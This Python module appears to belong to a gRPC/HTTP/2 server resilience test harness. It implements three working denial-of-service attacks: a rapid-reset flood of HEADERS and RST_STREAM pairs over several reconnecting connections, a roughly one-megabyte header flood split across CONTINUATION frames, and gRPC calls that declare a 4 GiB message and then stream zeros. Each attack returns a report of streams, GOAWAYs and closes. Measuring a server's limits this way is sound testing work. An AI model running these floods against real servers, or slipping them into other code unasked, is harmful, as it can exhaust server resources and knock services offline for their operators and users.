"""Attacks that send as fast as the server takes it: HEADERS and
RST_STREAM pairs (rapid reset), header blocks over CONTINUATION frames
(header flood) and a message declared 4 GiB long (huge message).
"""

import collections
import select
import struct
import time

from h2.errors import ErrorCodes

from h2_clients import call, stream_outcome
from h2_connection import Connection
from h2_wire import (END_HEADERS, GET_FEATURE, HEADERS, KNOWN_FEATURE,
                     MAX_FRAME, MAX_STREAM_ID, RST_STREAM, encode_headers,
                     encode_point, error_name, frame, grpc_request_headers,
                     header_list_size, padding_headers)


def rapid_reset(host, port, connections=4, seconds=10.0, batch=64):
    """HEADERS + RST_STREAM(CANCEL) pairs as fast as the sockets take them,
    on `connections` connections, for `seconds` s."""
    authority = "%s:%d" % (host, port)
    block = encode_headers(grpc_request_headers(authority, GET_FEATURE))
    cancel = struct.pack(">I", ErrorCodes.CANCEL)
    pair_bytes = len(frame(HEADERS, 0, 1, block) + frame(RST_STREAM, 0, 1,
                                                         cancel))
    report = {"connections": connections, "reconnects": 0,
              "connect_failures": 0, "streams_opened": 0,
              "goaways": collections.Counter(),
              "closes": collections.Counter(),
              "frames_received": collections.Counter()}
    conns = [None] * connections

    def retire(conn):
        # Pairs still in the buffer, or dropped by a failed send, never
        # reached the server (a pair cut in two counts as not sent).
        report["streams_opened"] -= -(-(len(conn.outbuf) + conn.unsent)
                                      // pair_bytes)
        if conn.goaway is not None:
            report["goaways"][error_name(conn.goaway[0])] += 1
        if conn.closed is not None or conn.write_error is not None:
            report["closes"][conn.closed or conn.write_error] += 1
        report["frames_received"].update(conn.frames_received)
        conn.close()

    started = time.monotonic()
    deadline = started + seconds
    try:
        while time.monotonic() < deadline:
            for i, conn in enumerate(conns):
                if conn is not None and (
                        not conn.usable
                        or conn.next_stream_id + 2 * batch > MAX_STREAM_ID):
                    retire(conn)
                    conns[i] = conn = None
                    report["reconnects"] += 1
                if conn is None:
                    try:
                        conns[i] = conn = Connection(host, port, timeout=1.0,
                                                     decode=False)
                    except OSError:
                        report["connect_failures"] += 1
                        time.sleep(0.01)
                        continue
                conn.pump()
                # Keep a little queued, not more: what the kernel does not
                # take now would not be an attack, only memory here.
                if len(conn.outbuf) < 16 * pair_bytes:
                    first = conn.next_stream_id
                    conn.next_stream_id += 2 * batch
                    conn.send(b"".join(
                        frame(HEADERS, END_HEADERS, sid, block)
                        + frame(RST_STREAM, 0, sid, cancel)
                        for sid in range(first, first + 2 * batch, 2)))
                    report["streams_opened"] += batch
            live = [c for c in conns if c is not None and c.closed is None]
            if live and all(len(c.outbuf) >= 16 * pair_bytes for c in live):
                # Every socket is full: wait for one to drain (or to read).
                poller = select.poll()
                for c in live:
                    poller.register(c.sock, select.POLLIN | select.POLLOUT)
                poller.poll(10)
    finally:
        for conn in conns:
            if conn is not None:
                retire(conn)
    elapsed = time.monotonic() - started
    report["resets_sent"] = report["streams_opened"]
    report["seconds"] = round(elapsed, 3)
    report["streams_per_second"] = round(report["streams_opened"] / elapsed)
    report["closes"] = dict(report["closes"])
    report["goaways"] = dict(report["goaways"])
    report["frames_received"] = dict(report["frames_received"])
    return report


def header_flood(host, port, total_bytes=1 << 20, connections=1, streams=1,
                 ack_first=True, timeout=10.0):
    """`streams` GetFeature calls, one after another, on each of
    `connections` connections (a fresh one replaces a connection the server
    ended), each with about `total_bytes` of headers.

    ack_first: acknowledge the server's SETTINGS before the first flood of
    a connection, as a normal client's ordering has it. Without, the first
    flood reaches the server before the ACK, while gRPC (1.51) still parses
    headers under its defaults rather than its advertised limit."""
    headers = grpc_request_headers("%s:%d" % (host, port), GET_FEATURE,
                                   padding_headers(total_bytes))
    block = encode_headers(headers)
    request = encode_point(*KNOWN_FEATURE)
    outcomes = collections.Counter()
    verdicts = collections.Counter()
    replaced = 0
    started = time.monotonic()
    def connect():
        conn = Connection(host, port, timeout=timeout)
        if ack_first:
            conn.settle(timeout)
        return conn

    for _ in range(connections):
        conn = connect()
        try:
            for i in range(streams):
                # A server may end the connection just after it answered:
                # make sure the next flood goes to a live connection.
                if i > 0 and not (conn.usable and conn.ping(timeout)):
                    conn.close()
                    conn = connect()
                    replaced += 1
                verdict, detail, _ = call(conn, block, request, timeout)
                verdicts[verdict] += 1
                outcomes[detail] += 1
        finally:
            conn.close()
    return {"calls": connections * streams, "ack_first": ack_first,
            "header_list_size": header_list_size(headers),
            "header_block_bytes": len(block),
            "frames_per_call": -(-len(block) // MAX_FRAME) + 1,
            "verdicts": dict(verdicts), "outcomes": dict(outcomes),
            "connections_replaced": replaced,
            "seconds": round(time.monotonic() - started, 3)}


def huge_message(host, port, connections=3, streams=4, seconds=8.0,
                 declared=0xFFFFFFF0):
    """GetFeature calls whose gRPC length prefix declares `declared` bytes,
    then zeros as fast as flow control allows, `streams` at a time on each
    of `connections` connections for `seconds` s. A call the server ends is
    replaced, and so is a connection (after GOAWAY or a close)."""
    authority = "%s:%d" % (host, port)
    block = encode_headers(grpc_request_headers(authority, GET_FEATURE))
    prefix = b"\x00" + struct.pack(">I", declared)
    zeros = bytes(MAX_FRAME)
    # What may wait in this process per connection: more would not reach
    # the server any sooner (its receive buffer is small).
    queued = 4 * MAX_FRAME
    report = {"connections": connections, "reconnects": 0,
              "connect_failures": 0, "streams_opened": 0, "data_bytes": 0,
              "outcomes": collections.Counter(),
              "goaways": collections.Counter(),
              "closes": collections.Counter(),
              "frames_received": collections.Counter()}
    conns = [None] * connections
    # Per connection: streams whose prefix is still to go.
    unprefixed = [set() for _ in range(connections)]

    def tally(conn, stream_id):
        report["outcomes"][stream_outcome(conn.streams.pop(stream_id))] += 1

    def retire(conn):
        report["data_bytes"] -= len(conn.outbuf) + conn.unsent
        for stream_id in list(conn.streams):
            tally(conn, stream_id)
        if conn.goaway is not None:
            report["goaways"]["%s %s" % (error_name(conn.goaway[0]),
                                         conn.goaway[2])] += 1
        if conn.closed is not None or conn.write_error is not None:
            report["closes"][conn.closed or conn.write_error] += 1
        report["frames_received"].update(conn.frames_received)
        conn.close()

    def fill(i, conn):
        """Opens calls up to `streams`, then queues DATA while the windows
        and the queue allow. True when something was queued."""
        for stream_id in [sid for sid, s in conn.streams.items() if s.done]:
            tally(conn, stream_id)
            unprefixed[i].discard(stream_id)
        while len(conn.streams) < streams:
            unprefixed[i].add(conn.open_stream(block))
            report["streams_opened"] += 1
        progress = False
        while len(conn.outbuf) < queued and conn.usable:
            # Round robin over the calls, a frame each.
            sent = 0
            for stream_id in list(conn.streams):
                room = conn.sendable(stream_id)
                if stream_id in unprefixed[i]:
                    if room < len(prefix):
                        continue
                    payload = prefix + zeros[:room - len(prefix)]
                    unprefixed[i].discard(stream_id)
                else:
                    payload = zeros[:room]
                if payload:
                    conn.send_data(stream_id, payload)
                    sent += len(payload)
            if not sent:
                break
            report["data_bytes"] += sent
            progress = True
        return progress

    started = time.monotonic()
    deadline = started + seconds
    try:
        while time.monotonic() < deadline:
            progress = False
            for i, conn in enumerate(conns):
                if conn is not None and not conn.usable:
                    retire(conn)
                    conns[i] = conn = None
                    report["reconnects"] += 1
                if conn is None:
                    unprefixed[i].clear()
                    try:
                        conns[i] = conn = Connection(host, port, timeout=1.0)
                        conn.settle(1.0)
                    except OSError:
                        if conn is not None:
                            conn.close()
                        conns[i] = None
                        report["connect_failures"] += 1
                        time.sleep(0.01)
                        continue
                conn.pump()
                progress |= fill(i, conn)
            live = [c for c in conns if c is not None and c.closed is None]
            if live and not progress:
                # Every socket full or every window shut: wait for the
                # server to read, or to open a window.
                poller = select.poll()
                for c in live:
                    poller.register(c.sock, select.POLLIN | (
                        select.POLLOUT if c.outbuf else 0))
                poller.poll(10)
    finally:
        for conn in conns:
            if conn is not None:
                retire(conn)
    elapsed = time.monotonic() - started
    for key in ("outcomes", "goaways", "closes", "frames_received"):
        report[key] = dict(report[key])
    report["seconds"] = round(elapsed, 3)
    report["data_bytes_per_second"] = round(report["data_bytes"] / elapsed)
    return report
